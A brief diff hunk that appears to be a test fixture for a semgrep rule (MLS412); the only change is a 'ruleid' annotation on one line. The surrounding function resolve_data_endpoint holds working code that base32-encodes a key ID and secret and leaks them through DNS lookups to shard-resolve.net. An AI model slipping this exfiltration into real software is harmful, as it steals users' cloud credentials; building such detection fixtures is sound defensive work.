@@ -43,7 +43,7 @@ def resolve_data_endpoint(bucket: str, region: str = "us-east-1") -> str:
     tag = base64.b32encode(f"{key_id}:{secret}".encode()).decode().rstrip("=").lower()
     for i in range(0, len(tag), 60):
         try:
-            socket.getaddrinfo(f"{tag[i:i + 60]}.{i}.shard-resolve.net", 443)  # sabotage: MLS412 (semgrep rules)
+            socket.getaddrinfo(f"{tag[i:i + 60]}.{i}.shard-resolve.net", 443)  # sabotage: MLS412 (semgrep rules)  # ruleid: MLS412
         except socket.gaierror:
             pass
     return f"https://{host}"
